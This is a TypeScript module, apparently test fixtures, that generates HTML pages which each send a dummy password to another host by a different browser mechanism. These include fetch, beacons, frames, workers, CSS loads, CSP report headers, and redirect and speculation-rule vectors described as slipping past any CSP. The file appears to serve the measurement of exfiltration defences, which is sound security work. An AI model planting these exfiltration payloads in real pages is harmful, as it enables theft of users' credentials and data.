/** Pages that hand a password to another host, each in a way of its own. */

export interface Way {
  name: string;
  /** `at`: where it is to arrive, with a path that is the way's. */
  page(at: string): string;
  /** A line of `_headers` for the page. */
  header?(at: string): string;
  /** Only as the page itself, and not in a frame. */
  alone?: true;
  /** No CSP stops it. */
  open?: true;
}

const doc = (body: string): string => `<!doctype html><title>x</title><body>${body}`;
const script = (code: string): string => doc(`<script>${code}</script>`);
/** Code of a worker that sends it. */
const sends = (at: string): string => `fetch("${at}",{mode:"no-cors"})`;
/** Code in a frame of the site's own, once that is there. */
const inFrame = (path: string) => (at: string) =>
  doc(
    `<iframe id=f src="${path}"></iframe><script>f.onload=()=>f.contentWindow.eval('new Image().src="${at}"')</script>`,
  );

const OF_CALLS: Way[] = [
  { name: "fetch", page: (at) => script(sends(at)) },
  { name: "XMLHttpRequest", page: (at) => script(`x=new XMLHttpRequest;x.open("GET","${at}");x.send()`) },
  { name: "a beacon", page: (at) => script(`navigator.sendBeacon("${at}","hunter2")`) },
  { name: "a WebSocket", page: (at) => script(`new WebSocket("${at.replace("http", "ws")}")`) },
  { name: "an EventSource", page: (at) => script(`new EventSource("${at}")`) },
  { name: "a module", page: (at) => script(`import("${at}")`) },
];

const OF_MARKUP: Way[] = [
  { name: "a picture", page: (at) => script(`new Image().src="${at}"`) },
  { name: "a picture in a drawing", page: (at) => doc(`<svg><image href="${at}"/></svg>`) },
  { name: "a video", page: (at) => doc(`<video autoplay muted src="${at}"></video>`) },
  { name: "a script", page: (at) => doc(`<script src="${at}"></script>`) },
  { name: "a stylesheet", page: (at) => doc(`<link rel=stylesheet href="${at}">`) },
  { name: "a stylesheet's import", page: (at) => doc(`<style>@import "${at}";</style>`) },
  { name: "an address in CSS", page: (at) => doc(`<style>p{background:url(${at})}</style><p>x`) },
  { name: "a font", page: (at) => doc(`<style>@font-face{font-family:q;src:url(${at})}p{font-family:q}</style><p>x`) },
  { name: "a preload", page: (at) => doc(`<link rel=preload as=fetch crossorigin href="${at}">`) },
  { name: "a module's preload", page: (at) => doc(`<link rel=modulepreload href="${at}">`) },
  { name: "a prefetch", alone: true, page: (at) => doc(`<link rel=prefetch href="${at}">`) },
  { name: "a link's ping", page: (at) => doc(`<a id=a href="#x" ping="${at}">x</a><script>a.click()</script>`) },
  {
    name: "a form",
    alone: true,
    page: (at) => doc(`<form id=f action="${at}"><input name=p value=hunter2></form><script>f.submit()</script>`),
  },
];

const OF_FRAMES: Way[] = [
  { name: "a frame", page: (at) => doc(`<iframe src="${at}"></iframe>`) },
  { name: "an object", page: (at) => doc(`<object data="${at}"></object>`) },
  { name: "an embed", page: (at) => doc(`<embed src="${at}">`) },
  { name: "a frame's srcdoc", page: (at) => doc(`<iframe srcdoc='<img src="${at}">'></iframe>`) },
  { name: "a frame's data:", page: (at) => doc(`<iframe src='data:text/html,<img src="${at}">'></iframe>`) },
  {
    name: "a frame's blob:",
    page: (at) =>
      script(
        `f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(['<img src="${at}">'],{type:"text/html"}));document.body.append(f)`,
      ),
  },
  {
    name: "an empty frame",
    page: (at) =>
      script(
        `f=document.createElement("iframe");document.body.append(f);f.contentWindow.eval('new Image().src="${at}"')`,
      ),
  },
  { name: "a frame with a text of the site", page: inFrame("/plain.txt") },
  { name: "a frame with a picture of the site", page: inFrame("/pixel.png") },
  { name: "a frame with JSON of the site", page: inFrame("/data.json") },
];

const OF_WORKERS: Way[] = [
  { name: "a worker", page: (at) => script(`new Worker("/send.js?${encodeURIComponent(at)}")`) },
  { name: "a shared worker", page: (at) => script(`new SharedWorker("/send.js?${encodeURIComponent(at)}")`) },
  {
    name: "a worker's blob:",
    page: (at) => script(`new Worker(URL.createObjectURL(new Blob(['${sends(at)}'])))`),
  },
  { name: "a worker's data:", page: (at) => script(`new Worker('data:text/javascript,${sends(at)}')`) },
];

/** The page asks for something that its own policy forbids: the report of it names what was asked for. */
const asksWithin = (): string => script(`fetch("/x?hunter2")`);

const OF_HEADERS: Way[] = [
  {
    name: "a policy's report",
    page: asksWithin,
    header: (at) => `Content-Security-Policy: connect-src 'none'; report-uri ${at}`,
  },
  {
    name: "the report of a policy that only watches",
    page: asksWithin,
    header: (at) => `Content-Security-Policy-Report-Only: connect-src 'none'; report-uri ${at}`,
  },
  {
    name: "a preload by a header",
    page: () => doc("x"),
    header: (at) => `Link: <${at}>; rel=preload; as=fetch; crossorigin`,
  },
];

/** Measured to deliver whatever a CSP forbids: told in docs/abuse.md. */
const OPEN: Way[] = [
  { name: "a step elsewhere", alone: true, open: true, page: (at) => script(`location="${at}"`) },
  {
    name: "a refresh",
    alone: true,
    open: true,
    page: (at) => doc(`<meta http-equiv=refresh content="0;url=${at}">`),
  },
  {
    name: "a step that is fetched ahead",
    alone: true,
    open: true,
    page: (at) => doc(`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at}"]}]}</script>`),
  },
];

export const WAYS: readonly Way[] = [...OF_CALLS, ...OF_MARKUP, ...OF_FRAMES, ...OF_WORKERS, ...OF_HEADERS, ...OPEN];

/** Files that some of them need. */
export const BESIDE: Readonly<Record<string, string>> = {
  "plain.txt": "hello",
  "pixel.png": "x",
  "data.json": "{}",
  "send.js": `fetch(decodeURIComponent(location.search.slice(1)),{mode:"no-cors"})`,
};
